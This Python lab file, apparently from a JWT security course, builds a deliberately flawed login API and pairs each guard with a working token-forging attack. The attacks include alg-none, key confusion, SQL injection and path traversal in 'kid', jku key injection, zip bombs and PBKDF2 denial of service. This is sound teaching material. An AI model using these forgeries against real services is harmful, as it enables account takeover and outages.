"""Chapter 10: attack a login, and stop each attack.

`flawed_app()` makes a small service that holds a token against one guard after
the other; a guard is one line. `flawed_app(algorithm=block_list)` replaces a
guard by what people have really written in its place. Each attack in `ATTACKS`
succeeds against the app with its flaw, and fails without. All keys are
teaching keys, and no attack leaves this process.
"""

# %% Imports
import hmac
import json
import posixpath
import re
import sqlite3
import time
import zlib
from base64 import urlsafe_b64decode
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from functools import cached_property
from hashlib import pbkdf2_hmac
from typing import Annotated, Any
from uuid import uuid4

import httpx
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.keywrap import (
    InvalidUnwrap,
    aes_key_unwrap,
    aes_key_wrap,
)
from fastapi import Depends, FastAPI, Response
from jwt.algorithms import OKPAlgorithm, RSAAlgorithm

from snippets import ch05_check_it as ch05
from snippets.ch01_jwt_anatomy import (
    RefusedTokenError,
    base64url_encode,
    without_duplicates,
)

# %% The issuer, its partner, and their keys
ISSUER, PARTNER = "https://login.example", "https://partner.example"
OUR_API = "https://api.example"
RSA_KEY = rsa.generate_private_key(65537, 2048)
PUBLIC_PEM = RSA_KEY.public_key().public_bytes(
    serialization.Encoding.PEM,
    serialization.PublicFormat.SubjectPublicKeyInfo,
)
OTHER_KEY = ed25519.Ed25519PrivateKey.generate()


@dataclass(frozen=True)
class Key:
    """A key as the service stores it, with its one algorithm and issuer."""

    alg: str
    issuer: str
    material: bytes


# The names in `kid`, and the keys. Mallory works for the partner.
KEYS = {
    "rsa": Key("RS256", ISSUER, PUBLIC_PEM),
    "body": Key("RS256", ISSUER, b"".join(PUBLIC_PEM.split(b"\n")[1:-2])),
    "raw": Key("EdDSA", ISSUER, OTHER_KEY.public_key().public_bytes_raw()),
    "partner": Key("HS256", PARTNER, b"partner's and ours, teaching key"),
    "prototype": Key("HS256", ISSUER, b"sunshine"),
}


# %% Issue a token
Json = dict[str, Any]
Sign = Callable[[bytes], bytes]


def part(content: Json | bytes) -> str:
    """Encode a header or a payload; bytes go in as they are."""
    if isinstance(content, dict):
        content = json.dumps(content, separators=(",", ":")).encode("ascii")
    return base64url_encode(content)


def compact(header: Json, payload: Json | bytes, sign: Sign) -> str:
    """Write a token in the compact serialization (RFC 7515 §7.1)."""
    message = f"{part(header)}.{part(payload)}"
    return f"{message}.{part(sign(message.encode('ascii')))}"


def sign_rs256(message: bytes) -> bytes:
    """Sign with the issuer's private key (RFC 7518 §3.3)."""
    return RSA_KEY.sign(message, padding.PKCS1v15(), hashes.SHA256())


def hmac_with(secret: bytes, bits: int = 256) -> Sign:
    """Make a function that signs by HMAC-SHA256, or by another hash."""
    return lambda message: hmac.digest(secret, message, f"sha{bits}")


OWN_HEADER = {"alg": "RS256", "kid": "rsa", "typ": "at+jwt"}


def issue(subject: str, header: Json | None = None, **claims: object) -> str:
    """Issue a token for ten minutes, with RFC 9068's claims (§2.2)."""
    now, jti = int(time.time()), str(uuid4())
    usual = {"iss": ISSUER, "aud": OUR_API, "sub": subject, "jti": jti}
    times = {"iat": now, "exp": now + 600}
    return compact(
        OWN_HEADER | (header or {}), usual | times | claims, sign_rs256
    )


# %% Read base64url and JSON, as lenient libraries do
def unbase64(text: str) -> bytes:
    """Decode base64url in any spelling that Python accepts."""
    return urlsafe_b64decode(text + "==")


def lenient_object(data: bytes) -> Json:
    """Read an object; UTF-16 passes, and of two equal names the last wins.

    Raises:
        ValueError: the data is no JSON object.
    """
    members = json.loads(data)
    if not isinstance(members, dict):
        raise ValueError("no JSON object")
    return members


# %% Take a token apart
class Jwt:
    """A token that is read, but not verified.

    Attributes:
        text: the token as it was sent.
        message: what its signature is computed over.
        header, signature: two of its parts, decoded.
        inner: the token that is nested in it (RFC 7519 §5.2), else itself.
        payload, claims: the claims of the inner token, as bytes and read.
    """

    def __init__(self, text: str) -> None:
        """Read a token in either serialization (RFC 7515 §7.1, §7.2.2).

        Raises:
            ValueError: it is malformed.
        """
        parts = text.split(".")
        if text.startswith("{"):
            members = json.loads(text)
            names = ("protected", "payload", "signature")
            parts = [str(members.get(name)) for name in names]
        if len(parts) != 3 or "." not in text:
            raise ValueError("not three parts")
        self.text, self.message = text, ".".join(parts[:2])
        self.header = lenient_object(unbase64(parts[0]))
        self.signature = unbase64(parts[2])
        self.inner, self.payload = self, unbase64(text.split(".")[1])
        if self.header.get("cty") == "JWT":
            self.inner = Jwt(self.payload.decode("ascii"))
            self.payload = self.inner.payload
        self.claims = lenient_object(self.payload)

    @cached_property
    def key(self) -> Key:
        """The key, from wherever the header says; looked for when used.

        Raises:
            ValueError: there is no such key.
        """
        if "jku" in self.header:
            return received_key(NETWORK.get(self.header["jku"]).json())
        if "jwk" in self.header:
            return received_key(self.header["jwk"])
        return stored_key(self.header.get("kid"))


# %% Find a key, as careless services do
NETWORK = httpx.Client(transport=httpx.MockTransport(lambda r: own_server(r)))
FILES = {"/srv/static/terms.txt": b"Be kind. Do not break into our service."}

QUERY = "SELECT alg, issuer, material FROM keys WHERE kid ="


def received_key(jwk: Json) -> Key:
    """Believe an Ed25519 key that a token brought along (RFC 8037 §2)."""
    return Key("EdDSA", ISSUER, unbase64(jwk["x"]))


def stored_key(kid: object) -> Key:
    """Look a key up in a database and, if it is not there, in a folder.

    Raises:
        ValueError: there is no such key.
    """
    rows = [(name, *vars(key).values()) for name, key in KEYS.items()]
    with closing(sqlite3.connect(":memory:")) as database:
        database.execute("CREATE TABLE keys (kid, alg, issuer, material)")
        database.executemany("INSERT INTO keys VALUES (?, ?, ?, ?)", rows)
        found = database.execute(f"{QUERY} '{kid}'").fetchone()
    if found:
        return Key(*found)
    path = posixpath.normpath(f"/srv/keys/{kid}")
    if path not in FILES:
        raise ValueError("no such key")
    return Key("HS256", ISSUER, FILES[path])


# %% Verify a signature by the algorithm that the token names
VERIFIERS = {
    "RS256": RSAAlgorithm(RSAAlgorithm.SHA256),
    "EdDSA": OKPAlgorithm(),
}


def public_key(material: bytes) -> PublicKeyTypes:
    """Load a public key from PEM, its base64 body, or Ed25519's 32 bytes.

    Raises:
        ValueError: the bytes are no such key.
    """
    if len(material) == 32:
        return ed25519.Ed25519PublicKey.from_public_bytes(material)
    if material.startswith(b"-----BEGIN"):
        return serialization.load_pem_public_key(material)
    return serialization.load_der_public_key(unbase64(material.decode()))


def signature_fits(token: Jwt) -> bool:
    """Run the algorithm that the header names, as libraries once did.

    Raises:
        ValueError: the key is of no use for this algorithm.
    """
    alg, message = str(token.header.get("alg")), token.message.encode("ascii")
    if alg.lower() == "none":
        return token.signature == b""
    if alg in ("HS256", "HS512"):
        mac = hmac.digest(token.key.material, message, f"sha{alg[2:]}")
        return hmac.compare_digest(mac, token.signature)
    if alg != token.key.alg:
        raise ValueError("this key is for another algorithm")
    key = public_key(token.key.material)
    return VERIFIERS[alg].verify(message, key, token.signature)


# %% What the guards ask
DAY = 24 * 60 * 60
REVOKED: dict[str, str] = {}  # the texts of revoked tokens, and their `jti`
USERS = {
    (ISSUER, "johndoe"): "johndoe",
    (ISSUER, "mallory"): "mallory",
    (PARTNER, "mallory"): "mallory of the partner",
}


def names_come_once(token: Jwt) -> bool:
    """Whether the claims have no name twice (RFC 7519 §4)."""
    try:
        json.loads(token.payload, object_pairs_hook=without_duplicates)
    except RefusedTokenError:
        return False
    return True


def kind_of(token: Jwt) -> str:
    """Return a token's `typ`, in any of its spellings (RFC 9068 §4)."""
    typ = str(token.header.get("typ")).lower()
    return typ.removeprefix("application/")


def seconds_left(token: Jwt) -> float:
    """Return how long a token lives; -1 if `exp` is missing or no number."""
    exp = token.claims.get("exp", 0)
    return exp - int(time.time()) if type(exp) in (int, float) else -1


def audiences(token: Jwt) -> list[Any]:
    """Return the audiences; `aud` holds one or a list (RFC 7519 §4.1.3)."""
    aud = token.claims.get("aud", [])
    return aud if isinstance(aud, list) else [aud]


def inner_holds(token: Jwt) -> bool:
    """Whether a token that is nested in this one passes all guards."""
    try:
        return token.inner is token or bool(read_token(token.inner.text))
    except RefusedTokenError:
        return False


def has_begun(token: Jwt) -> bool:
    """Whether a token's `nbf`, if it has one, is past (RFC 7519 §4.1.5)."""
    nbf = token.claims.get("nbf", 0)
    return type(nbf) in (int, float) and nbf <= time.time()


def username_of(token: Jwt) -> str | None:
    """Return the user whom issuer and subject name together, or None."""
    claims = token.claims
    return USERS.get((str(claims.get("iss")), str(claims.get("sub"))))


# %% The guards, in their order
Guard = Callable[[Jwt], bool]
SEALED = ("form", "zip", "rounds")  # asked before a token is decrypted
GUARDS: dict[str, Guard] = {
    "form": lambda t: re.fullmatch(r"[\w.-]*", t.text, re.ASCII) is not None,
    "zip": lambda t: "zip" not in t.header,  # RFC 8725 §3.6
    "rounds": lambda t: t.header.get("p2c", 1) in range(1, 300_001),
    "crit": lambda t: "crit" not in t.header,  # RFC 7515 §4.1.11
    "own_keys": lambda t: not {"jku", "jwk"} & t.header.keys(),  # §3.10
    "kid": lambda t: t.header.get("kid") in list(KEYS),  # RFC 8725 §3.10
    "algorithm": lambda t: t.header.get("alg") == t.key.alg,  # §3.1, §3.2
    "key_length": lambda t: len(t.key.material) >= 32,  # §3.5
    "signature": signature_fits,  # §3.3
    "nested": inner_holds,
    "utf_8": lambda t: json.detect_encoding(t.payload) == "utf-8",  # §3.7
    "names": names_come_once,
    "kind": lambda t: kind_of(t.inner) == "at+jwt",  # §3.11, §3.12
    "issuer": lambda t: t.claims.get("iss") == t.inner.key.issuer,  # §3.8
    "audience": lambda t: OUR_API in audiences(t),  # §3.9
    "lifetime": lambda t: 0 < seconds_left(t) <= DAY,  # RFC 7519 §4.1.4
    "begun": has_begun,
    "revoked": lambda t: t.claims.get("jti") not in REVOKED.values(),
    "user": lambda t: username_of(t) is not None,
}


# %% Hold a token against the guards
def hold(token: Jwt, guards: dict[str, Guard]) -> None:
    """Ask one guard after the other.

    Raises:
        RefusedTokenError: a guard refuses; the message is its name.
    """
    for name, guard in guards.items():
        if not guard(token):
            raise RefusedTokenError(name)


def read_token(text: str, guards: dict[str, Guard] = GUARDS) -> Jwt:
    """Return a token that passes all guards, decrypted if need be.

    Raises:
        RefusedTokenError: a guard refuses the token, or it is malformed.
    """
    try:
        if text.count(".") == 4:
            envelope = Envelope(text)
            hold(envelope, {name: guards[name] for name in SEALED})
            text = envelope.decrypt()
        token = Jwt(text)
        hold(token, guards)
    except (ValueError, RecursionError) as error:
        raise RefusedTokenError("malformed") from error
    return token


# %% An app with flaws
PASSWORDS = {"johndoe": "secret", "mallory": "visitor"}  # a lab needs no hash


def flawed_app(**instead: Guard) -> FastAPI:
    """Make an app, with these guards instead of its own.

    `flawed_app()` has all guards; `flawed_app(algorithm=anything)` lacks one.
    A guard of a new name is asked after all others.
    """
    guards = GUARDS | instead
    app = FastAPI(title="Chapter 10: attack lab", redirect_slashes=False)
    app.exception_handlers[ch05.OAuthError] = ch05.refuse

    async def get_current_user(token: ch05.BearerToken) -> str:
        """Return the user; for the lab, a refusal names its guard."""
        try:
            return str(username_of(read_token(token, guards)))
        except RefusedTokenError as error:
            reason = f"stopped by {error}"
            refusal = ch05.bearer_error(401, "invalid_token", reason)
            raise refusal from error

    @app.post("/token", openapi_extra=ch05.LOGIN_FORM)
    async def log_in(grant: ch05.Login, response: Response) -> Json:
        """Trade a password for tokens of three kinds."""
        if PASSWORDS.get(grant.username) != grant.password:
            raise ch05.OAuthError(400, "invalid_grant", "wrong password")
        response.headers.update(ch05.NO_STORE)
        name = grant.username
        return {
            "access_token": issue(name),
            "token_type": "bearer",
            "expires_in": 600,
            "refresh_token": issue(name, {"typ": "rt+jwt"}),
            "id_token": issue(name, {"typ": "JWT"}),
        }

    @app.get("/users/me/")
    async def read_users_me(
        user: Annotated[str, Depends(get_current_user)],
    ) -> Json:
        """Return the name of the current user."""
        return {"username": user}

    @app.get("/jwks.json")
    async def read_keys() -> Json:
        """Publish the issuer's public key (RFC 7517 §5)."""
        jwk = RSAAlgorithm.to_jwk(RSA_KEY.public_key(), as_dict=True)
        return {"keys": [jwk | {"kid": "rsa", "alg": "RS256"}]}

    return app


# %% An attack, and how it is run
Exploit = Callable[[str], str]


@dataclass(frozen=True)
class Attack:
    """An attack: what mallory sends, which rule it breaks, and how.

    Attributes:
        name: what is sent.
        rule: the RFC that forbids it, and the section: `8725 §3.2`. 8725bis
            is the draft of that RFC's successor.
        guard: the name of the guard that stops it.
        flaw: what people write instead of that guard.
        exploit: turn mallory's own token into what she sends.
    """

    name: str
    rule: str
    guard: str
    flaw: Guard
    exploit: Exploit


@dataclass(frozen=True)
class Outcome:
    """An app's answer to an attack: its user, or why there is none."""

    status: int
    user: str | None
    reason: str | None

    def __str__(self) -> str:
        """Say it in words: `200, as johndoe`, `401, stopped by kid`."""
        return f"{self.status}, {self.reason or f'as {self.user}'}"


async def run(attack: Attack, app: FastAPI) -> Outcome:
    """Log mallory in, send what the exploit makes of her token, report."""
    form = {"grant_type": "password", "username": "mallory"}
    form["password"] = PASSWORDS["mallory"]
    transport = httpx.ASGITransport(app)
    base_url = "http://testserver"
    async with httpx.AsyncClient(
        transport=transport, base_url=base_url
    ) as client:
        login = await client.post("/token", data=form)
        token = attack.exploit(login.json()["access_token"])
        headers = {"Authorization": f"Bearer {token}"}
        response = await client.get("/users/me/", headers=headers)
    body = response.json()
    user, reason = body.get("username"), body.get("error_description")
    return Outcome(response.status_code, user, reason)


# %% What people write instead of a guard
def anything(token: Jwt) -> bool:
    """Refuse no token: the guard is missing."""
    return True


def block_list(token: Jwt) -> bool:
    """Refuse one spelling of one algorithm, and accept the others."""
    return token.header.get("alg") != "none"


def audience_if_any(token: Jwt) -> bool:
    """Ask for our name only if there are names."""
    return not audiences(token) or OUR_API in audiences(token)


def audience_within(token: Jwt) -> bool:
    """Look for our name anywhere within the text."""
    return OUR_API in str(token.claims.get("aud"))


def expiry_if_any(token: Jwt) -> bool:
    """Ask whether a token has expired, if it ever does."""
    return "exp" not in token.claims or seconds_left(token) > 0


def unexpired(token: Jwt) -> bool:
    """Ask whether a token has expired, but not when it will."""
    return seconds_left(token) > 0


def text_not_revoked(token: Jwt) -> bool:
    """Look a token up by its text, which has more than one spelling."""
    return token.text not in REVOKED


# %% Forge a token
def as_johndoe(own: str, **changes: object) -> Json:
    """Return mallory's claims with another subject; None leaves one out."""
    claims = Jwt(own).claims | {"sub": "johndoe"} | changes
    return {name: claim for name, claim in claims.items() if claim is not None}


def with_other_claims(own: str) -> str:
    """Change the subject, and keep the signature."""
    header, _, signature = own.split(".")
    return f"{header}.{part(as_johndoe(own))}.{signature}"


def unsigned(alg: str) -> Exploit:
    """Say that there is no signature, and leave it out."""
    header = OWN_HEADER | {"alg": alg}
    return lambda own: compact(header, as_johndoe(own), lambda _: b"")


def by_secret(
    secret: bytes, kid: str, bits: int = 256, **claims: object
) -> Exploit:
    """Sign by HMAC, with a secret that mallory has, and under any `kid`."""
    header, sign = OWN_HEADER | {"kid": kid}, hmac_with(secret, bits)
    header["alg"] = f"HS{bits}"
    return lambda own: compact(header, as_johndoe(own, **claims), sign)


def by_public_key(kid: str) -> Exploit:
    """Sign by HMAC, with a public key as it is stored for its secret."""
    return by_secret(KEYS[kid].material, kid)


def by_partner(bits: int = 256, **claims: object) -> Exploit:
    """Sign with the partner's secret, by default for a user of its own."""
    claims = {"iss": PARTNER, "sub": "mallory"} | claims
    return by_secret(KEYS["partner"].material, "partner", bits, **claims)


# %% Bring a key along
MALLORYS_KEY = ed25519.Ed25519PrivateKey.generate()
PUBLIC = part(MALLORYS_KEY.public_key().public_bytes_raw())
JWK = {"kty": "OKP", "crv": "Ed25519", "x": PUBLIC}
URL = "https://mallory.example/key.json"
MADE_UP = b"a secret that mallory has made up"
PATH, TERMS = "../static/terms.txt", FILES["/srv/static/terms.txt"]
SQL = f"' UNION SELECT 'HS256', '{ISSUER}', X'{MADE_UP.hex()}' --"
VISITS: list[str] = []  # the addresses that the service asked for


def own_server(request: httpx.Request) -> httpx.Response:
    """Answer as mallory's own server, whatever address is asked for."""
    VISITS.append(str(request.url))
    return httpx.Response(200, json=JWK)


def by_own_key(**header: object) -> Exploit:
    """Sign with mallory's own key, and say in the header where it is."""
    header = OWN_HEADER | {"alg": "EdDSA"} | header
    return lambda own: compact(header, as_johndoe(own), MALLORYS_KEY.sign)


# %% Guess a key, or use a token of johndoe's
WORDS = ("password", "letmein", "secret", "dragon", "sunshine", "qwerty")
OLD_TOKEN = compact(  # mallory's own, from the service's first days
    {"alg": "HS256", "kid": "prototype"},
    {"sub": "mallory"},
    hmac_with(KEYS["prototype"].material),
)


def by_guessed_word(own: str) -> str:
    """Find the word that mallory's old token is signed with, and sign."""
    message, _, signature = OLD_TOKEN.rpartition(".")
    words = [word.encode("ascii") for word in WORDS]
    macs = {part(hmac_with(word)(message.encode())): word for word in words}
    return by_secret(macs[signature], "prototype")(own)


def received(header: Json | None = None, **claims: object) -> Exploit:
    """Send a token that the issuer made for johndoe, and for another use."""
    return lambda own: issue("johndoe", header, **claims)


def respelled(own: str) -> str:
    """Send a token that johndoe has revoked, with another last letter.

    A signature of 256 bytes leaves four bits of its last letter unused.
    """
    token = issue("johndoe")
    REVOKED[token] = Jwt(token).claims["jti"]
    return token[:-1] + chr(ord(token[-1]) + 1)


# %% Let two readers disagree
def countersign(payload: bytes) -> str:
    """Sign claims that mallory wrote, if the first `sub` in them is hers.

    An internal service does so. It reads JSON with a regular expression.

    Raises:
        PermissionError: the first `sub` is another user's.
    """
    found = re.search(rb'"sub"\s*:\s*"(.*?)"', payload)
    if found and found[1] != b"mallory":
        raise PermissionError("not yours")
    return compact(OWN_HEADER, payload, sign_rs256)


def with_sub_twice(own: str) -> str:
    """Name mallory first and johndoe last."""
    claims = unbase64(own.split(".")[1])
    return countersign(claims[:-1] + b',"sub":"johndoe"}')


def in_utf_16(own: str) -> str:
    """Write the claims with two bytes for each character."""
    return countersign(json.dumps(as_johndoe(own)).encode("utf-16-le"))


def in_two_formats(own: str) -> str:
    """Put a forged token into the JSON serialization of a good one."""
    header, payload, signature = own.split(".")
    members = {with_other_claims(own): "", "protected": header}
    return json.dumps(members | {"payload": payload, "signature": signature})


def nested(own: str) -> str:
    """Wrap a token with a broken signature into one that is well signed."""
    header = {"alg": "HS256", "kid": "partner", "cty": "JWT"}
    inner = with_other_claims(own).encode("ascii")
    return compact(header, inner, hmac_with(KEYS["partner"].material))


# %% Decrypt a token
PASSWORD = b"a teaching password that mallory has, too"


def wrapping_key(salt: bytes, rounds: int) -> bytes:
    """Derive a key from the password (RFC 7518 §4.8.1.1).

    Of all the rounds that a token asks for, this lab runs the first 1,000.
    """
    salt = b"PBES2-HS256+A128KW\0" + salt
    return pbkdf2_hmac("sha256", PASSWORD, salt, min(rounds, 1000), 16)


class Envelope(Jwt):
    """An encrypted token: only its header can be read (RFC 7516 §7.1)."""

    def __init__(self, text: str) -> None:
        """Read the header.

        Raises:
            ValueError: it is malformed.
        """
        self.text, self.parts = text, text.split(".")
        self.header = lenient_object(unbase64(self.parts[0]))

    def decrypt(self) -> str:
        """Return the token inside, by A256GCM (RFC 7516 §5.2).

        Raises:
            ValueError: a key does not fit, or the data are damaged.
        """
        try:
            return self.plain().decode("ascii").strip()
        except (InvalidTag, InvalidUnwrap, zlib.error) as error:
            raise ValueError("it cannot be decrypted") from error

    def plain(self) -> bytes:
        """Return the bytes inside; a wrong key raises what AES raises."""
        key, iv, content, tag = map(unbase64, self.parts[1:])
        if self.header.get("alg") == "dir":
            key = KEYS["partner"].material
        else:
            salt = unbase64(str(self.header.get("p2s")))
            rounds = int(self.header.get("p2c", 0))
            key = aes_key_unwrap(wrapping_key(salt, rounds), key)
        head = self.parts[0].encode("ascii")
        plain = AESGCM(key).decrypt(iv, content + tag, head)
        if "zip" in self.header:
            plain = zlib.decompress(plain, wbits=-15)
        return plain


# %% Let a small token cost much
def encrypt(header: Json, key: bytes, plain: bytes, wrapped: bytes) -> str:
    """Encrypt a token by A256GCM; `wrapped` is its key, encrypted."""
    head, iv = part(header | {"enc": "A256GCM"}), uuid4().bytes[:12]
    sealed = AESGCM(key).encrypt(iv, plain, head.encode("ascii"))
    return ".".join(
        [head, *map(part, (wrapped, iv, sealed[:-16], sealed[-16:]))]
    )


def zip_bomb(own: str) -> str:
    """Compress mallory's token and a million spaces to two kilobytes."""
    plain = zlib.compress(own.encode() + b" " * 1_000_000, 9, wbits=-15)
    header = {"alg": "dir", "zip": "DEF"}
    return encrypt(header, KEYS["partner"].material, plain, b"")


def many_rounds(own: str) -> str:
    """Ask for 1,000 million rounds of PBKDF2, minutes of computing."""
    key, wrapping = bytes(32), wrapping_key(b"salt", 1000)
    header = {"alg": "PBES2-HS256+A128KW", "p2c": 10**9, "p2s": part(b"salt")}
    return encrypt(header, key, own.encode(), aes_key_wrap(wrapping, key))


# %% Attacks on the signature and its key
ATTACKS: dict[str, Attack] = {}


def add(rule: str, name: str, exploit: Exploit, **flaw: Guard) -> None:
    """Write an attack into `ATTACKS`, with its guard and what is instead."""
    [(guard, instead)] = flaw.items()
    ATTACKS[name] = Attack(name, rule, guard, instead, exploit)


add("8725 §3.3", "claims changed", with_other_claims, signature=anything)
add("8725 §3.3", "nested token", nested, nested=anything)
add("8725 §3.2", "alg none", unsigned("none"), algorithm=anything)
add("8725 §3.2", "alg noNe", unsigned("noNe"), algorithm=block_list)
add("8725 §3.1", "public PEM", by_public_key("rsa"), algorithm=anything)
add("8725 §3.1", "PEM's body", by_public_key("body"), algorithm=anything)
add("8725 §3.1", "raw key", by_public_key("raw"), algorithm=anything)
add("8725 §3.1", "HS512", by_partner(512), algorithm=anything)
add("8725 §3.5", "guessed word", by_guessed_word, key_length=anything)
add("8725 §3.10", "SQL in kid", by_secret(MADE_UP, SQL), kid=anything)
add("8725 §3.10", "path in kid", by_secret(TERMS, PATH), kid=anything)
add("8725 §3.10", "jku", by_own_key(jku=URL), own_keys=anything)
add("8725 §3.10", "jwk", by_own_key(jwk=JWK), own_keys=anything)

# %% Attacks on what the token says, and how it is written
HERS, LONGER = "https://mallory.example", OUR_API + ".mallory.example"
ID, LOGOUT, REFRESH = {"typ": "JWT"}, {"typ": "logout+jwt"}, {"typ": "rt+jwt"}
AS_US, YEAR_2100 = by_partner(iss=ISSUER, sub="johndoe"), 4_102_444_800
BOUND = {"crit": ["only-from"], "only-from": "192.0.2.1"}
add("8725 §3.8", "another issuer", AS_US, issuer=anything)
add("8725 §3.9", "another API's", received(aud=HERS), audience=anything)
add("8725 §3.9", "no audience", received(aud=[]), audience=audience_if_any)
add("8725 §3.9", "longer", received(aud=LONGER), audience=audience_within)
add("8725 §3.11", "ID token", received(ID), kind=anything)
add("8725 §3.12", "logout token", received(LOGOUT), kind=anything)
add("8725 §3.12", "refresh token", received(REFRESH), kind=anything)
add("7515 §4.1.11", "crit", received(BOUND), crit=anything)
add("9068 §2.2", "no exp", by_partner(exp=None), lifetime=expiry_if_any)
add("6750 §5.3", "exp 2100", by_partner(exp=YEAR_2100), lifetime=unexpired)
add("7519 §4.1.5", "nbf 2100", received(nbf=YEAR_2100), begun=anything)
add("7519 §4.1.7", "respelled", respelled, revoked=text_not_revoked)

add("7519 §4", "sub twice", with_sub_twice, names=anything)
add("8725 §3.7", "UTF-16", in_utf_16, utf_8=anything)
add("8725bis §3.14", "two formats", in_two_formats, form=anything)
add("8725 §3.6", "zip bomb", zip_bomb, zip=anything)
add("8725bis §3.13", "many rounds", many_rounds, rounds=anything)
